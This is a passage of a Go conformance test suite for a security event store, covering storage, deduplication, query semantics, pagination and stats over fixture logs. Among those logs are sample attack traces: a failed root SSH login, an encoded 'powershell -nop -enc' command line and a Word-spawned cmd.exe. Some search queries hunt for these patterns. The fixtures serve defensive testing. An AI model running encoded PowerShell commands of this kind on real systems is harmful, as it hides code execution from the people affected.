// Package storetest is the conformance suite every eventstore.Store must
// pass. Backends call Run from their own tests with a function that opens
// a store in a directory (the suite reopens directories to test restarts).
package storetest

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/eventsec/eventsec/internal/event"
	"github.com/eventsec/eventsec/internal/eventstore"
)

// Backend is what the suite needs from a backend under test.
type Backend struct {
	// Open opens the store kept in dir, creating it when dir is empty.
	// The suite closes every store it opens.
	Open func(t *testing.T, dir string) eventstore.Store
}

// Run runs the whole suite.
func Run(t *testing.T, b Backend) {
	tests := []struct {
		name string
		fn   func(t *testing.T, b Backend)
	}{
		{"AppendAndGet", testAppendAndGet},
		{"DerivedIDs", testDerivedIDs},
		{"Dedupe", testDedupe},
		{"DedupeAcrossRestart", testDedupeAcrossRestart},
		{"SeqOrderAndSince", testSeqOrder},
		{"ConcurrentAppends", testConcurrentAppends},
		{"Search", testSearch},
		{"SearchFilters", testSearchFilters},
		{"BadQueries", testBadQueries},
		{"Pagination", testPagination},
		{"Stats", testStats},
		{"Terms", testTerms},
		{"Export", testExport},
		{"ExportLarge", testExportLarge},
		{"Scan", testScan},
		{"Retention", testRetention},
		{"TenantIsolation", testTenantIsolation},
		{"FarOffTimestamps", testFarOffTimestamps},
		{"InvalidAndClosed", testInvalidAndClosed},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { tc.fn(t, b) })
	}
}

var ctx = context.Background()

// T0 is the fixture's base time.
var T0 = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)

func open(t *testing.T, b Backend, dir string) eventstore.Store {
	t.Helper()
	s := b.Open(t, dir)
	t.Cleanup(func() { s.Close() })
	return s
}

func mustAppend(t *testing.T, s eventstore.Store, evs []event.Event) eventstore.AppendResult {
	t.Helper()
	res, err := s.Append(ctx, evs)
	if err != nil {
		t.Fatalf("append: %v", err)
	}
	return res
}

// Fixture returns the suite's search fixture for an org: nine events
// whose IDs are org+"-e1"... One carries the token 7f3a9e1bd4c2e8aa in
// its raw text only.
func Fixture(org string) []event.Event {
	id := func(n int) string { return fmt.Sprintf("%s-e%d", org, n) }
	day2 := T0.Add(24 * time.Hour)
	return []event.Event{
		{ID: id(1), OrgID: org, Timestamp: T0, Ingested: T0.Add(time.Second), Input: "syslog",
			Raw: "<38>Nov 20 10:00:00 web-01 sshd[100]: Failed password for root from 203.0.113.5 port 52314 ssh2",
			Fields: event.Fields{
				"message": "Failed password for root from 203.0.113.5 port 52314 ssh2", "user.name": "root", "source.ip": "203.0.113.5",
				"source.port": int64(52314), "event.category": []string{"authentication"}, "event.type": []string{"start"},
				"event.outcome": "failure", "event.severity": int64(21), "host.name": "web-01", "event.dataset": "system.auth",
				"source.geo.country_iso_code": "CN", "process.name": "sshd", "process.pid": int64(100),
			}},
		{ID: id(2), OrgID: org, Timestamp: T0.Add(time.Minute), Ingested: T0.Add(time.Minute), Input: "syslog",
			Raw: "<38>Nov 20 10:01:00 web-02 sshd[101]: Accepted publickey for Alice from 10.1.2.3 port 40022 ssh2",
			Fields: event.Fields{
				"message": "Accepted publickey for Alice from 10.1.2.3 port 40022 ssh2", "user.name": "Alice", "source.ip": "10.1.2.3",
				"source.port": int64(40022), "event.category": []string{"authentication"}, "event.type": []string{"start"},
				"event.outcome": "success", "event.severity": int64(0), "host.name": "web-02", "event.dataset": "system.auth",
			}},
		{ID: id(3), OrgID: org, Timestamp: T0.Add(2 * time.Minute), Ingested: T0.Add(2 * time.Minute), Input: "agent",
			Raw: `{"EventID":1,"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -nop -enc SQBFAFgA","ProcessGuid":"{7f3a9e1bd4c2e8aa}"}`,
			Fields: event.Fields{
				"message": "Process Create: powershell.exe -nop -enc SQBFAFgA", "process.command_line": "powershell.exe -nop -enc SQBFAFgA",
				"process.executable": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "process.name": "powershell.exe",
				"user.name": "bob", "host.name": "WS-0042", "event.category": []string{"process"}, "event.type": []string{"start"},
				"event.severity": int64(73), "event.dataset": "windows.sysmon", "tags": []string{"suspicious", "encoded"},
			}},
		{ID: id(4), OrgID: org, Timestamp: T0.Add(3 * time.Minute), Ingested: T0.Add(3 * time.Minute), Input: "syslog",
			Raw: "<134>Nov 20 10:03:00 fw-01 CEF:0|Palo Alto Networks|PAN-OS|10.2|TRAFFIC|end|5|src=10.1.2.3 spt=51515 dst=198.51.100.7 dpt=443 act=deny",
			Fields: event.Fields{
				"message": "TRAFFIC deny 10.1.2.3:51515 -> 198.51.100.7:443 TCP", "source.ip": "10.1.2.3", "source.port": int64(51515),
				"destination.ip": "198.51.100.7", "destination.port": int64(443), "event.category": []string{"network"},
				"event.type": []string{"connection", "end"}, "event.outcome": "failure", "event.severity": int64(21),
				"event.dataset": "panw.panos", "observer.name": "fw-01", "network.transport": "tcp",
			}},
		{ID: id(5), OrgID: org, Timestamp: T0.Add(4 * time.Minute), Ingested: T0.Add(4 * time.Minute), Input: "http",
			Raw: `{"src":"2001:db8::7","request":"POST /wp-login.php HTTP/1.1","status":404}`,
			Fields: event.Fields{
				"message": "POST /wp-login.php HTTP/1.1 404", "source.ip": "2001:db8::7", "url.full": "https://shop.example.com/wp-login.php",
				"http.request.method": "POST", "http.response.status_code": int64(404), "related.ip": []string{"2001:db8::7", "10.9.9.9"},
				"event.category": []string{"web"}, "event.type": []string{"access"}, "event.severity": int64(0),
				"event.dataset": "nginx.access", "source.geo.country_iso_code": "DE", "http.response.body.ratio": 0.25,
			}},
		{ID: id(6), OrgID: org, Timestamp: day2, Ingested: day2, Input: "agent",
			Raw: `{"EventID":4688,"NewProcessName":"C:\\Windows\\System32\\cmd.exe","ParentProcessName":"WINWORD.EXE"}`,
			Fields: event.Fields{
				"message": "cmd.exe spawned by winword.exe", "user.name": "Administrator", "host.name": "DC-01",
				"event.category": []string{"process", "malware"}, "event.severity": int64(99), "event.dataset": "windows.security",
				"source.geo.location.lat": 52.52, "event.risk_flag": true, "event.code": "4688",
			}},
		{ID: id(7), OrgID: org, Timestamp: day2.Add(5 * time.Minute), Ingested: day2.Add(5 * time.Minute), Input: "syslog",
			Raw:    "unparsed garbage line with token zebra-42 inside",
			Fields: event.Fields{"tags": []string{event.TagParseError}, "error.message": "no parser matched"}},
		{ID: id(8), OrgID: org, Timestamp: time.Date(1970, 1, 1, 0, 0, 1, 0, time.UTC), Ingested: T0, Input: "syslog",
			Raw: "ancient clock event", Fields: event.Fields{"message": "ancient clock event"}},
		{ID: id(9), OrgID: org, Timestamp: time.Date(2200, 6, 1, 0, 0, 0, 0, time.UTC), Ingested: T0, Input: "syslog",
			Raw: "future clock event", Fields: event.Fields{"message": "future clock event"}},
	}
}

// sameEvent compares what a store must keep of an event.
func sameEvent(t *testing.T, got, want event.Event) {
	t.Helper()
	if got.ID != want.ID || got.OrgID != want.OrgID || !got.Timestamp.Equal(want.Timestamp) || !got.Ingested.Equal(want.Ingested) ||
		got.Input != want.Input || got.Raw != want.Raw {
		t.Fatalf("event differs:\n got %+v\nwant %+v", got, want)
	}
	if !reflect.DeepEqual(got.Fields, want.Fields) {
		t.Fatalf("fields of %s differ:\n got %#v\nwant %#v", want.ID, got.Fields, want.Fields)
	}
}

func testAppendAndGet(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	fx := Fixture("a")
	res := mustAppend(t, s, fx)
	if len(res.Stored) != len(fx) || res.Duplicates != 0 {
		t.Fatalf("stored %d duplicates %d, want %d 0", len(res.Stored), res.Duplicates, len(fx))
	}
	for i, ev := range res.Stored {
		if ev.Seq <= 0 || i > 0 && ev.Seq <= res.Stored[i-1].Seq {
			t.Fatalf("seqs not increasing: %d after %d", ev.Seq, res.Stored[max(i-1, 0)].Seq)
		}
	}
	for _, want := range fx {
		got, err := s.Get(ctx, "a", want.ID)
		if err != nil {
			t.Fatalf("get %s: %v", want.ID, err)
		}
		sameEvent(t, got, want)
		if got.Seq == 0 {
			t.Fatalf("get %s: no seq", want.ID)
		}
	}
	if _, err := s.Get(ctx, "a", "nope"); !errors.Is(err, eventstore.ErrNotFound) {
		t.Fatalf("get missing: %v, want ErrNotFound", err)
	}
	// Text that is not UTF-8 (binary junk on a syslog port) is kept, not
	// refused; stores may replace the bad bytes.
	bad := event.Event{ID: "bad", OrgID: "a", Timestamp: T0, Input: "syslog", Raw: "junk \xff\xfe bytes", Fields: event.Fields{"message": "m\xffm", "user.name": "\xc3"}}
	if res := mustAppend(t, s, []event.Event{bad}); len(res.Stored) != 1 {
		t.Fatalf("invalid UTF-8: stored %d", len(res.Stored))
	}
	if got, err := s.Get(ctx, "a", "bad"); err != nil || !strings.HasPrefix(got.Raw, "junk ") {
		t.Fatalf("invalid UTF-8 event: %+v %v", got, err)
	}
	if p, err := s.Search(ctx, "a", eventstore.Query{Text: "junk"}); err != nil || p.Total != 1 {
		t.Fatalf("search of the invalid UTF-8 event: %v %v", p.Total, err)
	}
}

func testDerivedIDs(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	ev := event.Event{OrgID: "a", Timestamp: T0, Input: "syslog", Raw: "a line", Fields: event.Fields{"message": "a line"}}
	res := mustAppend(t, s, []event.Event{ev})
	want := event.DeriveID("a", "syslog", "a line")
	if len(res.Stored) != 1 || res.Stored[0].ID != want {
		t.Fatalf("stored %+v, want ID %s", res.Stored, want)
	}
	if got, err := s.Get(ctx, "a", want); err != nil || got.Raw != "a line" {
		t.Fatalf("get derived: %+v %v", got, err)
	}
	// Ingested defaults to the store's clock, Timestamp to Ingested.
	res = mustAppend(t, s, []event.Event{{OrgID: "a", Input: "syslog", Raw: "no times"}})
	if len(res.Stored) != 1 || res.Stored[0].Ingested.IsZero() || !res.Stored[0].Timestamp.Equal(res.Stored[0].Ingested) {
		t.Fatalf("times not filled: %+v", res.Stored)
	}
	res = mustAppend(t, s, []event.Event{ev})
	if res.Duplicates != 1 || len(res.Stored) != 0 {
		t.Fatalf("same raw again: stored %d duplicates %d, want 0 1", len(res.Stored), res.Duplicates)
	}
}

// Batch returns n simple events of an org, IDs prefix-0...
func Batch(org, prefix string, n int, at time.Time) []event.Event {
	evs := make([]event.Event, n)
	for i := range evs {
		msg := fmt.Sprintf("event %s %d %s", prefix, i, map[bool]string{true: "even", false: "odd"}[i%2 == 0])
		evs[i] = event.Event{ID: fmt.Sprintf("%s-%d", prefix, i), OrgID: org, Timestamp: at.Add(time.Duration(i) * time.Second),
			Ingested: at, Input: "http", Raw: msg, Fields: event.Fields{"message": msg, "host.name": fmt.Sprintf("h%d", i%3)}}
	}
	return evs
}

func testDedupe(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	evs := Batch("a", "x", 100, T0)
	mustAppend(t, s, evs)
	res := mustAppend(t, s, evs)
	if len(res.Stored) != 0 || res.Duplicates != 100 {
		t.Fatalf("retried batch: stored %d duplicates %d, want 0 100", len(res.Stored), res.Duplicates)
	}
	// Half old, half new; and one event twice in the same batch.
	mixed := append(Batch("a", "x", 100, T0)[50:], Batch("a", "y", 50, T0)...)
	mixed = append(mixed, mixed[len(mixed)-1])
	res = mustAppend(t, s, mixed)
	if len(res.Stored) != 50 || res.Duplicates != 51 {
		t.Fatalf("mixed batch: stored %d duplicates %d, want 50 51", len(res.Stored), res.Duplicates)
	}
	// The same ID in another org is another event.
	res = mustAppend(t, s, Batch("b", "x", 100, T0))
	if len(res.Stored) != 100 {
		t.Fatalf("other org's events: stored %d, want 100", len(res.Stored))
	}
	// Concurrent retries of one batch store it once.
	c := Batch("a", "z", 200, T0.Add(time.Hour))
	var wg sync.WaitGroup
	var mu sync.Mutex
	stored := 0
	for range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r, err := s.Append(ctx, c)
			if err != nil {
				t.Error(err)
				return
			}
			mu.Lock()
			stored += len(r.Stored)
			mu.Unlock()
		}()
	}
	wg.Wait()
	if stored != 200 {
		t.Fatalf("concurrent retries stored %d, want 200", stored)
	}
	if p, _ := s.Search(ctx, "a", eventstore.Query{}); p.Total != 350 {
		t.Fatalf("org a has %d events, want 350", p.Total)
	}
}

func testDedupeAcrossRestart(t *testing.T, b Backend) {
	dir := t.TempDir()
	s := b.Open(t, dir)
	evs := Batch("a", "x", 3000, T0)
	mustAppend(t, s, evs)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s = open(t, b, dir)
	res := mustAppend(t, s, evs)
	if len(res.Stored) != 0 || res.Duplicates != 3000 {
		t.Fatalf("after restart: stored %d duplicates %d, want 0 3000", len(res.Stored), res.Duplicates)
	}
	res = mustAppend(t, s, append(evs[:10:10], Batch("a", "new", 10, T0)...))
	if len(res.Stored) != 10 || res.Duplicates != 10 {
		t.Fatalf("after restart, mixed: stored %d duplicates %d", len(res.Stored), res.Duplicates)
	}
}

func testSeqOrder(t *testing.T, b Backend) {
	dir := t.TempDir()
	s := b.Open(t, dir)
	if n, err := s.LastSeq(ctx); err != nil || n != 0 {
		t.Fatalf("empty store LastSeq = %d %v", n, err)
	}
	var all []event.Event
	for i := range 5 {
		org := []string{"a", "b"}[i%2]
		// Timestamps out of order across batches and days.
		res := mustAppend(t, s, Batch(org, fmt.Sprintf("b%d", i), 40, T0.Add(time.Duration(4-i)*25*time.Hour)))
		all = append(all, res.Stored...)
	}
	last, _ := s.LastSeq(ctx)
	if last != all[len(all)-1].Seq {
		t.Fatalf("LastSeq %d, want %d", last, all[len(all)-1].Seq)
	}
	var got []event.Event
	after := int64(0)
	for {
		page, err := s.Since(ctx, after, 33)
		if err != nil {
			t.Fatal(err)
		}
		if len(page) == 0 {
			break
		}
		got = append(got, page...)
		after = page[len(page)-1].Seq
	}
	if len(got) != len(all) {
		t.Fatalf("Since returned %d events, want %d", len(got), len(all))
	}
	for i := range got {
		if got[i].Seq != all[i].Seq || got[i].ID != all[i].ID || got[i].OrgID != all[i].OrgID {
			t.Fatalf("Since[%d] = %d %s, want %d %s", i, got[i].Seq, got[i].ID, all[i].Seq, all[i].ID)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s = open(t, b, dir)
	if n, _ := s.LastSeq(ctx); n != last {
		t.Fatalf("LastSeq after restart %d, want %d", n, last)
	}
	res := mustAppend(t, s, Batch("a", "later", 1, T0))
	if res.Stored[0].Seq <= last {
		t.Fatalf("seq after restart %d, want > %d", res.Stored[0].Seq, last)
	}
}

func testConcurrentAppends(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	var wg sync.WaitGroup
	var mu sync.Mutex
	var seqs []int64
	stop := make(chan struct{})
	// Readers run meanwhile and never fail.
	var rwg sync.WaitGroup
	rwg.Add(1)
	go func() {
		defer rwg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			if _, err := s.Search(ctx, "a", eventstore.Query{Text: "even"}); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	for w := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 10 {
				res, err := s.Append(ctx, Batch("a", fmt.Sprintf("w%d-%d", w, i), 150, T0.Add(time.Duration(w)*time.Hour)))
				if err != nil {
					t.Error(err)
					return
				}
				mu.Lock()
				for _, ev := range res.Stored {
					seqs = append(seqs, ev.Seq)
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	close(stop)
	rwg.Wait()
	slices.Sort(seqs)
	if len(seqs) != 8*10*150 || len(slices.Compact(slices.Clone(seqs))) != len(seqs) {
		t.Fatalf("%d seqs (%d distinct), want %d distinct", len(seqs), len(slices.Compact(slices.Clone(seqs))), 8*10*150)
	}
	if p, _ := s.Search(ctx, "a", eventstore.Query{}); p.Total != 12000 {
		t.Fatalf("total %d, want 12000", p.Total)
	}
}

// search returns the IDs the query finds, sorted.
func search(t *testing.T, s eventstore.Store, org string, q eventstore.Query) []string {
	t.Helper()
	q.Size = 1000
	p, err := s.Search(ctx, org, q)
	if err != nil {
		t.Fatalf("search %q: %v", q.Text, err)
	}
	ids := []string{}
	for _, ev := range p.Events {
		if ev.OrgID != org {
			t.Fatalf("search %q in org %s returned org %s's event %s", q.Text, org, ev.OrgID, ev.ID)
		}
		ids = append(ids, strings.TrimPrefix(ev.ID, org+"-"))
	}
	if int64(len(ids)) != p.Total {
		t.Fatalf("search %q: %d events but Total %d", q.Text, len(ids), p.Total)
	}
	sort.Strings(ids)
	return ids
}

func ids(s string) []string {
	if s == "" {
		return []string{}
	}
	out := strings.Fields(s)
	sort.Strings(out)
	return out
}

// SearchCases are the query semantics every store implements, over
// Fixture: query → the fixture events found.
var SearchCases = []struct{ Q, Want string }{
	{"", "e1 e2 e3 e4 e5 e6 e7 e8 e9"},
	// Free text: words of message or raw, without case.
	{"failed", "e1"},
	{"FAILED PASSWORD", "e1"},
	{"fail", ""},
	{"fail*", "e1"},
	{`"password for root"`, "e1"},
	{`"failed root"`, ""},
	{"password root", "e1"},
	{"7f3a9e1bd4c2e8aa", "e3"},
	{"zebra", "e7"},
	{"zebra-42", "e7"},
	{"ebra", ""},
	{"203.0.113.5", "e1"},
	{"ancient OR future", "e8 e9"},
	// Keywords: whole value, without case.
	{"user.name:root", "e1"},
	{"user.name:ALICE", "e2"},
	{"user.name:ali*", "e2"},
	{"user.name:?lice", "e2"},
	{"user.name:(root OR alice)", "e1 e2"},
	{"user.name:*", "e1 e2 e3 e6"},
	{"_exists_:url.full", "e5"},
	{"NOT user.name:root", "e2 e3 e4 e5 e6 e7 e8 e9"},
	{"-_exists_:user.name", "e4 e5 e7 e8 e9"},
	{"host.name:web-0?", "e1 e2"},
	{`process.executable:C\:\\Windows\\*`, "e3"},
	{"process.command_line:*-enc*", "e3"},
	{"_id:a-e3", "e3"},
	// An alert's "Open in Events": its event ids, quoted or not.
	{"_id:(a-e3 OR a-e1)", "e1 e3"},
	{`_id:("a-e2" OR "a-e9" OR "a-nope")`, "e2 e9"},
	{"input:agent", "e3 e6"},
	// Text fields: word by word.
	{"message:cmd.exe", "e6"},
	{"message:cmd", "e6"},
	{"message:exe", "e3 e6"},
	{`message:"-enc"`, "e3"},
	{`message:"spawned by"`, "e6"},
	{"message:spawn*", "e6"},
	{"error.message:parser", "e7"},
	{"event.original:zebra", "e7"},
	// Lists.
	{"event.category:NETWORK", "e4"},
	{"event.type:end", "e4"},
	{"event.type:start", "e1 e2 e3"},
	{"event.category:proc*", "e3 e6"},
	{"tags:encoded", "e3"},
	{"tags:_parse_error", "e7"},
	// Numbers, IPs, times.
	{"source.port:[1 TO 1023]", ""},
	{"source.port:>=50000", "e1 e4"},
	{"source.port:{40022 TO 52314}", "e4"},
	{"source.port:[40022 TO 52314]", "e1 e2 e4"},
	{"destination.port:443", "e4"},
	{"event.severity:>=73", "e3 e6"},
	{"event.severity:<21", "e2 e5"},
	{"source.geo.location.lat:>50", "e6"},
	{"source.ip:10.0.0.0/8", "e2 e4"},
	{"source.ip:10.1.2.3", "e2 e4"},
	{"source.ip:203.0.113.0/24", "e1"},
	{"source.ip:2001:db8::/32", "e5"},
	{"source.ip:[10.0.0.0 TO 10.255.255.255]", "e2 e4"},
	{"destination.ip:198.51.100.7", "e4"},
	{"@timestamp:2026-11-21", "e6 e7"},
	{"@timestamp:[2026-11-20T10:01:00Z TO 2026-11-20T10:03:00Z]", "e2 e3 e4"},
	{"@timestamp:{2026-11-20T10:01:00Z TO 2026-11-20T10:03:00Z}", "e3"},
	{"@timestamp:<2000-01-01", "e8"},
	// Fields without a column.
	{"http.request.method:post", "e5"},
	{"http.response.status_code:404", "e5"},
	{"http.response.status_code:[400 TO 499]", "e5"},
	{"http.response.body.ratio:<0.5", "e5"},
	{"related.ip:10.9.9.9", "e5"},
	{"event.risk_flag:true", "e6"},
	{"no.such.field:x", ""},
	// Sysmon, Windows and Sigma names stand for where normalization put
	// the value too (lucene.WithAliases).
	{"Image:*powershell.exe", "e3"},
	{"CommandLine:*-enc*", "e3"},
	{"User:bob", "e3"},
	{"_exists_:Image", "e3"},
	{"NOT Image:*powershell.exe", "e1 e2 e4 e5 e6 e7 e8 e9"},
	{"DestinationPort:443", "e4"},
	{"SourceIp:10.0.0.0/8", "e2 e4"},
	{"username:alice", "e2"},
	// ECS's related.* stand for every field of their kind besides
	// themselves (event.RelatedFields).
	{"related.ip:10.1.2.3", "e2 e4"},
	{"related.ip:198.51.100.7", "e4"},
	{"related.ip:2001:db8::7", "e5"},
	{"related.user:alice", "e2"},
	{"related.user:(bob OR root)", "e1 e3"},
	{"related.hosts:web-0*", "e1 e2"},
	// An ECS object written as one value: its natural field
	// (normalize.KeyAliases).
	{"user:alice", "e2"},
	{"host:WS-0042", "e3"},
	{"source:10.1.2.3", "e2 e4"},
	// Boolean structure.
	{"(user.name:root OR user.name:alice) AND source.ip:10.0.0.0/8", "e2"},
	{"event.dataset:system.auth -user.name:root", "e2"},
	{"event.dataset:system.auth && !failed", "e2"},
	{"event.severity:>=73 || event.category:network", "e3 e4 e6"},
}

func testSearch(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	mustAppend(t, s, Fixture("a"))
	// Another org's copy must never show.
	mustAppend(t, s, Fixture("b"))
	for _, tc := range SearchCases {
		t.Run(tc.Q, func(t *testing.T) {
			if got, want := search(t, s, "a", eventstore.Query{Text: tc.Q}), ids(tc.Want); !slices.Equal(got, want) {
				t.Fatalf("search %q = %v, want %v", tc.Q, got, want)
			}
		})
	}
}

func testSearchFilters(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	mustAppend(t, s, Fixture("a"))
	for _, tc := range []struct {
		name string
		q    eventstore.Query
		want string
	}{
		{"high+critical", eventstore.Query{Severities: []string{"high", "CRITICAL"}}, "e3 e6"},
		{"info", eventstore.Query{Severities: []string{"info"}}, "e2 e5 e7 e8 e9"},
		{"low with text", eventstore.Query{Text: "source.ip:10.0.0.0/8", Severities: []string{"low"}}, "e4"},
		{"time range", eventstore.Query{From: T0.Add(time.Minute), To: T0.Add(4 * time.Minute)}, "e2 e3 e4"},
		{"time range and text", eventstore.Query{Text: "sshd OR TRAFFIC", From: T0.Add(time.Minute)}, "e2 e4"},
		{"from only", eventstore.Query{From: T0.Add(24 * time.Hour)}, "e6 e7 e9"},
		{"to only", eventstore.Query{To: T0}, "e8"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got, want := search(t, s, "a", tc.q), ids(tc.want); !slices.Equal(got, want) {
				t.Fatalf("got %v, want %v", got, want)
			}
		})
	}
}

func testBadQueries(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	mustAppend(t, s, Fixture("a"))
	for _, q := range []eventstore.Query{
		{Text: "(failed"}, {Text: "user.name:"}, {Text: "a AND"}, {Text: "source.port:abc"}, {Text: "source.ip:[a TO b]"},
		{Text: "@timestamp:yesterday"}, {Severities: []string{"dire"}}, {Cursor: "garbage"},
	} {
		want := eventstore.ErrBadQuery
		if q.Cursor != "" {
			want = eventstore.ErrBadCursor
		}
		if _, err := s.Search(ctx, "a", q); !errors.Is(err, want) {
			t.Errorf("search %+v: %v, want %v", q, err, want)
		}
		if q.Cursor == "" {
			if _, err := s.Stats(ctx, "a", q, time.Hour); !errors.Is(err, eventstore.ErrBadQuery) {
				t.Errorf("stats %+v: %v, want ErrBadQuery", q, err)
			}
			if _, err := s.Export(ctx, "a", q, eventstore.FormatNDJSON, &bytes.Buffer{}); !errors.Is(err, eventstore.ErrBadQuery) {
				t.Errorf("export %+v: %v, want ErrBadQuery", q, err)
			}
		}
	}
	if _, err := s.Export(ctx, "a", eventstore.Query{}, "xml", &bytes.Buffer{}); !errors.Is(err, eventstore.ErrBadQuery) {
		t.Errorf("export as xml: %v, want ErrBadQuery", err)
	}
}

func testPagination(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	var evs []event.Event
	for i := range 230 {
		msg := fmt.Sprintf("paged %d %s", i, map[bool]string{true: "even", false: "odd"}[i%2 == 0])
		// Seven events per second: ties on @timestamp across pages.
		evs = append(evs, event.Event{ID: fmt.Sprintf("p-%d", i), OrgID: "p", Timestamp: T0.Add(time.Duration(i/7) * time.Second),
			Input: "http", Raw: msg, Fields: event.Fields{"message": msg}})
	}
	// In two batches, so that seqs do not follow timestamps.
	mustAppend(t, s, evs[115:])
	mustAppend(t, s, evs[:115])
	mustAppend(t, s, Batch("other", "p", 50, T0))
	// Every page of each order, and the cursors handed out on the way.
	walk := func(text string, order eventstore.Order, want int) (ids []string, cursors []string) {
		t.Helper()
		seen := map[string]bool{}
		var prev *event.Event
		cur := ""
		pages := 0
		for {
			p, err := s.Search(ctx, "p", eventstore.Query{Text: text, Size: 50, Cursor: cur, Order: order})
			if err != nil {
				t.Fatal(err)
			}
			pages++
			if p.Total != int64(want) {
				t.Fatalf("%q %q page %d: Total %d, want %d", text, order, pages, p.Total, want)
			}
			for i := range p.Events {
				ev := p.Events[i]
				if seen[ev.ID] {
					t.Fatalf("%q %q: %s on two pages", text, order, ev.ID)
				}
				seen[ev.ID] = true
				ids = append(ids, ev.ID)
				if prev != nil {
					later := ev.Timestamp.After(prev.Timestamp) || ev.Timestamp.Equal(prev.Timestamp) && ev.Seq > prev.Seq
					if later != (order == eventstore.OldestFirst) {
						t.Fatalf("%q %q: %s (%v, %d) after %s (%v, %d): out of order", text, order, ev.ID, ev.Timestamp, ev.Seq, prev.ID, prev.Timestamp, prev.Seq)
					}
				}
				prev = &p.Events[i]
			}
			if p.NextCursor == "" {
				break
			}
			if len(p.Events) != 50 {
				t.Fatalf("%q %q: a page of %d before the last", text, order, len(p.Events))
			}
			cur = p.NextCursor
			cursors = append(cursors, cur)
		}
		if len(seen) != want || pages != (want+49)/50 {
			t.Fatalf("%q %q: %d events in %d pages, want %d in %d", text, order, len(seen), pages, want, (want+49)/50)
		}
		return ids, cursors
	}
	for _, tc := range []struct {
		text string
		want int
	}{{"", 230}, {"even", 115}} {
		desc, descCursors := walk(tc.text, "", tc.want)
		if again, _ := walk(tc.text, eventstore.NewestFirst, tc.want); !slices.Equal(again, desc) {
			t.Fatalf("%q: order desc differs from the default", tc.text)
		}
		asc, ascCursors := walk(tc.text, eventstore.OldestFirst, tc.want)
		slices.Reverse(asc)
		if !slices.Equal(asc, desc) {
			t.Fatalf("%q: oldest first is not newest first reversed", tc.text)
		}
		// A cursor continues its own order only.
		for _, c := range []struct {
			cursor string
			order  eventstore.Order
		}{{descCursors[0], eventstore.OldestFirst}, {ascCursors[0], eventstore.NewestFirst}, {ascCursors[0], ""}} {
			if _, err := s.Search(ctx, "p", eventstore.Query{Text: tc.text, Cursor: c.cursor, Order: c.order}); !errors.Is(err, eventstore.ErrBadCursor) {
				t.Errorf("%q: a cursor of the other order with %q: %v, want ErrBadCursor", tc.text, c.order, err)
			}
		}
	}
	p, err := s.Search(ctx, "p", eventstore.Query{})
	if err != nil || len(p.Events) != 50 {
		t.Fatalf("default page size: %d %v", len(p.Events), err)
	}
	if _, err := s.Search(ctx, "p", eventstore.Query{Order: "sideways"}); !errors.Is(err, eventstore.ErrBadQuery) {
		t.Errorf("order sideways: %v, want ErrBadQuery", err)
	}
}

func testStats(t *testing.T, b Backend) {
	s := open(t, b, t.TempDir())
	var evs []event.Event
	n := 0
	// Hosts h00..h11 with 12..1 events; two in an hour with nothing.
	for h := range 12 {
		for i := range 12 - h {
			n++
			sev := []int64{0, 21, 47, 73, 99}[n%5]
			hour := []int{0, 1, 3, 4}[n%4]
			ev := event.Event{ID: fmt.Sprintf("s-%d", n), OrgID: "s", Timestamp: T0.Add(time.Duration(hour)*time.Hour + time.Duration(i)*time.Second),
				Input: []string{"syslog", "http"}[n%2], Raw: fmt.Sprintf("stat %d", n),
				Fields: event.Fields{"host.name": fmt.Sprintf("h%02d", h), "event.severity": sev, "event.dataset": "ds" + fmt.Sprint(n%3),
					"event.category": []string{"network", []string{"web", "authentication"}[n%2]}}}
			if n%3 == 0 {
				ev.Fields["user.name"] = "u" + fmt.Sprint(n%4)
				ev.Fields["source.ip"] = "10.0.0." + fmt.Sprint(n%5)
				ev.Fields["source.geo.country_iso_code"] = []string{"DE", "FR"}[n%2]
			}
			evs = append(evs, ev)
		}
	}
	mustAppend(t, s, evs)
	mustAppend(t, s, Batch("other", "s", 40, T0))
	// Stored years before the rest: an unbounded chart of everything
	// spans them, one of a search spans its matches.
	mustAppend(t, s, []event.Event{{ID: "ancient", OrgID: "s", Timestamp: T0.AddDate(-3, 0, 0), Input: "http", Raw: "ancient",
		Fields: event.Fields{"host.name": "old", "message": "ancient"}}})
	st, err := s.Stats(ctx, "s", eventstore.Query{From: T0, To: T0.Add(6 * time.Hour)}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if st.Total != int64(len(evs)) || st.Interval != time.Hour {
		t.Fatalf("total %d interval %v, want %d 1h", st.Total, st.Interval, len(evs))
	}
	count := func(f func(event.Event) string) map[string]int64 {
		m := map[string]int64{}
		for _, ev := range evs {
			if v := f(ev); v != "" {
				m[v]++
			}
		}
		return m
	}
	asMap := func(l []eventstore.TermCount) map[string]int64 {
		m := map[string]int64{}
		for i, tc := range l {
			m[tc.Term] = tc.Count
			if i > 0 && l[i-1].Count < tc.Count {
				t.Fatalf("not sorted by count: %v", l)
			}
		}
		return m
	}
	sev := func(ev event.Event) string { n, _ := ev.Fields.Int("event.severity"); return event.SeverityLabel(n) }
	checks := []struct {
		name string
		got  []eventstore.TermCount
		want map[string]int64
	}{
		{"severity", st.BySeverity, count(sev)},
		{"dataset", st.ByDataset, count(func(ev event.Event) string { return ev.Fields.Str("event.dataset") })},
		{"input", st.ByInput, count(func(ev event.Event) string { return ev.Input })},
